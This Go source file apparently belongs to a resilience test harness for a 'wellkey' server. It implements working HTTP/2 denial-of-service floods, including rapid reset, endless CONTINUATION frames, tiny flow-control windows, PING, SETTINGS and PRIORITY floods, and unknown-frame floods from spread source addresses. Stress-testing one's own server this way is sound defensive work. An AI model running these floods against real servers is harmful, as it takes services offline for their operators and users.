package main

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"

	"wellkey/internal/pause"
)

// A flooding is what attackers do on connections of HTTP/2.
type flooding struct {
	conns   int
	opening int                           // how many are opened at a time; 0: all
	window  uint32                        // with which each stream begins
	unread  bool                          // the answers wait until nothing more goes in
	again   bool                          // one that was ended, or turned away, is followed by another
	after   time.Duration                 // how long after that
	from    func(n int) (from, to string) // nil: each from an address or IPv6 /64 of its own
	do      func(context.Context, *flooded) error
}

// http2Attacks returns floods of frames, each over some connections at a time.
func http2Attacks(o options, span time.Duration) []attack {
	frames, windows := o.few(10_000), max(200, o.few(800))
	var all []attack
	add := func(name string, f flooding) {
		if f.window == 0 {
			f.window = 1
		}
		all = append(all, attack{name: name, do: func(ctx context.Context, t *aim) (string, error) { return flood(ctx, t, span, f) }})
	}
	add(fmt.Sprintf("h2 rapid reset: %d requests taken back at once, on 10 connections, again and again", frames), flooding{conns: 10, again: true, do: func(_ context.Context, f *flooded) error {
		return f.repeat(frames, func(n int) error {
			if err := f.headers(uint32(2*n+1), true); err != nil {
				return err
			}
			return f.framer.WriteRSTStream(uint32(2*n+1), http2.ErrCodeCancel)
		})
	}})
	add("h2 CONTINUATION without end, on 10 connections, again and again", flooding{conns: 10, again: true, do: func(_ context.Context, f *flooded) error {
		if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.request()}); err != nil {
			return err
		}
		more := f.field("x-more", strings.Repeat("a", 8<<10))
		return f.repeat(frames, func(int) error { return f.framer.WriteContinuation(1, false, more) })
	}})
	add(fmt.Sprintf("h2 with windows of one byte, %d connections with 32 requests each", windows), flooding{conns: windows, do: func(_ context.Context, f *flooded) error {
		return f.repeat(32, func(n int) error { return f.headers(uint32(2*n+1), true) })
	}})
	for _, unread := range []bool{true, false} {
		answers := map[bool]string{true: "unread", false: "read"}[unread]
		add("h2 PING flood on 200 connections, answers "+answers, flooding{conns: 200, unread: unread, do: pings})
		add("h2 SETTINGS flood on 10 connections, answers "+answers, flooding{conns: 10, unread: unread, do: func(_ context.Context, f *flooded) error {
			return f.repeat(mostFrames, func(int) error { return f.framer.WriteSettings() })
		}})
	}
	add(fmt.Sprintf("h2 empty DATA: %d, 10 times", frames), flooding{conns: 10, do: func(_ context.Context, f *flooded) error {
		if err := f.headers(1, false); err != nil {
			return err
		}
		return f.repeat(frames, func(int) error { return f.framer.WriteData(1, false, nil) })
	}})
	add(fmt.Sprintf("h2 PRIORITY flood: %d, 10 times", frames), flooding{conns: 10, do: func(_ context.Context, f *flooded) error {
		return f.repeat(frames, func(n int) error {
			return f.framer.WritePriority(uint32(2*n+1), http2.PriorityParam{Weight: 1})
		})
	}})
	strange := max(span, 8*time.Second) // each is displaced after a second, and another comes
	const apart = 1000                  // from where no other comes, whom their rate would turn away
	all = append(all, attack{name: "h2 frames of an unknown type, 384 connections from 6 addresses that speak nothing else, and again", do: func(ctx context.Context, t *aim) (string, error) {
		return flood(ctx, t, strange, flooding{conns: 384, opening: 32, again: true, after: 100 * time.Millisecond, window: 1,
			from: func(n int) (from, to string) { return source(2*(apart+n%6), false) },
			do: func(_ context.Context, f *flooded) error {
				return f.repeat(mostFrames, func(int) error { return f.framer.WriteRawFrame(0xfa, 0, 0, make([]byte, 8<<10)) })
			}})
	}})
	return all
}

// mostFrames is how many go over a connection that takes all of them.
const mostFrames = 100_000

// pings sends PINGs.
func pings(_ context.Context, f *flooded) error {
	return f.repeat(mostFrames, func(int) error { return f.framer.WritePing(false, [8]byte{1}) })
}

// behindAttacks returns what clients do to a wellkey that has an application behind it:
// it must bear what that takes, such as answers that come late.
func behindAttacks(o options, span time.Duration) []attack {
	asking := max(1000, o.few(2048)) // more than it holds in so little memory
	return []attack{
		{name: fmt.Sprintf("with an application: h2 with windows of 0, %d connections from 8 addresses that ask for the key, and again", asking), app: true,
			do: func(ctx context.Context, t *aim) (string, error) {
				return flood(ctx, t, span, flooding{conns: asking, opening: 32, again: true, after: 2 * time.Second,
					from: func(n int) (from, to string) { return source(2*(n%8), false) },
					do: func(ctx context.Context, f *flooded) error {
						return f.repeat(mostFrames, func(n int) error {
							if err := f.headers(uint32(2*n+1), true); err != nil {
								return err
							}
							return pause.For(ctx, 3*time.Second) // so that they overlap
						})
					}})
			}},
		{name: "with an application: h2 PING flood on 256 connections from 2 addresses, answers unread", app: true,
			do: func(ctx context.Context, t *aim) (string, error) {
				return flood(ctx, t, span/2, flooding{conns: 256, window: 1, unread: true,
					from: func(n int) (from, to string) { return source(2*(n%2), false) }, do: pings})
			}},
	}
}

// A flooded is one connection of HTTP/2.
type flooded struct {
	conn   *tls.Conn
	framer *http2.Framer
	coded  bytes.Buffer
	coder  *hpack.Encoder
	until  time.Time
	wrote  int // frames, or pairs of them
}

// away is how a connection ended that was never secure.
const away = "turned away"

// flood makes connections of HTTP/2 and floods each. It tells how they ended, and how
// much was written.
func flood(ctx context.Context, t *aim, span time.Duration, f flooding) (string, error) {
	var mu sync.Mutex
	ends := map[string]int{}
	wrote := 0
	var all errgroup.Group
	from := f.from
	if from == nil {
		from = func(n int) (string, string) { return source(n%100_000, false) }
	}
	until := time.Now().Add(span)
	opening := make(chan struct{}, cmp.Or(f.opening, f.conns))
	for n := range f.conns {
		all.Go(func() error {
			for left := span; left > 0; n += f.conns {
				source, to := from(n)
				end, frames, err := f.one(ctx, t, source, to, opening, left)
				if err != nil {
					return err
				}
				mu.Lock()
				ends[end]++
				wrote += frames
				mu.Unlock()
				if !f.again {
					return nil
				}
				if err := pause.For(ctx, f.after); err != nil {
					return err
				}
				left = time.Until(until)
			}
			return nil
		})
	}
	err := all.Wait()
	made := 0
	var text []string
	for end, n := range ends {
		text = append(text, fmt.Sprintf("%d %s", n, end))
		if end != away {
			made += n
		}
	}
	slices.Sort(text)
	return fmt.Sprintf("%d written; %s", wrote, strings.Join(text, ", ")), errors.Join(err, enough("flooded", int64(made), f.conns))
}

// one makes one connection and floods it, for span. It returns how it ended, and how much
// was written.
func (f *flooding) one(ctx context.Context, t *aim, from, to string, opening chan struct{}, span time.Duration) (end string, frames int, err error) {
	opening <- struct{}{}
	conn, err := t.secure(ctx, from, to, "h2")
	<-opening
	if err != nil {
		if !turnedAway(err) {
			return "", 0, err
		}
		return away, 0, nil // it lost its place, or did not get a turn
	}
	defer hangUp(conn)
	// What was written has then been read, but for a little.
	if err := conn.NetConn().(*net.TCPConn).SetWriteBuffer(16 << 10); err != nil {
		return "", 0, err
	}
	one := &flooded{conn: conn, framer: http2.NewFramer(conn, conn), until: time.Now().Add(span)}
	one.coder = hpack.NewEncoder(&one.coded)
	_ = conn.SetDeadline(one.until)
	_, err = conn.Write([]byte(http2.ClientPreface))
	if err == nil {
		err = one.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: f.window})
	}
	said := make(chan string, 1)
	if !f.unread {
		go func() { said <- one.listen() }()
	}
	if err == nil {
		err = f.do(ctx, one)
	}
	if f.unread && err == nil { // the answers wait until nothing more goes in
		go func() { said <- one.listen() }()
	} else if f.unread {
		said <- ""
	}
	end = <-said
	switch {
	case end != "":
	case err != nil && ended(err) && time.Now().Before(one.until):
		end = "closed"
	case err != nil && !ended(err):
		return "", 0, err
	default:
		end = "open to the end"
	}
	return end, one.wrote, nil
}

// listen reads until the connection ends, and returns how that was announced, ""
// if nothing was said and the time was over.
func (f *flooded) listen() string {
	reader := http2.NewFramer(nil, f.conn)
	end := ""
	for {
		frame, err := reader.ReadFrame()
		if err != nil {
			if end == "" && time.Now().Before(f.until) {
				end = "closed"
			}
			return end
		}
		if goaway, ok := frame.(*http2.GoAwayFrame); ok {
			end = "ended with " + goaway.ErrCode.String()
		}
	}
}

// repeat writes something n times, or until that fails.
func (f *flooded) repeat(n int, write func(n int) error) error {
	for i := range n {
		if err := write(i); err != nil {
			return err
		}
		f.wrote++
	}
	return nil
}

// headers begins a request for the key.
func (f *flooded) headers(stream uint32, end bool) error {
	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.request(), EndHeaders: true, EndStream: end})
}

// request returns the fields of a request for the key.
func (f *flooded) request() []byte {
	f.coded.Reset()
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", domain}, {":path", "/.well-known/appspecific/com.tesla.3p.public-key.pem"}} {
		_ = f.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory
	}
	return bytes.Clone(f.coded.Bytes())
}

// field returns one field.
func (f *flooded) field(name, value string) []byte {
	f.coded.Reset()
	_ = f.coder.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) // into memory
	return bytes.Clone(f.coded.Bytes())
}
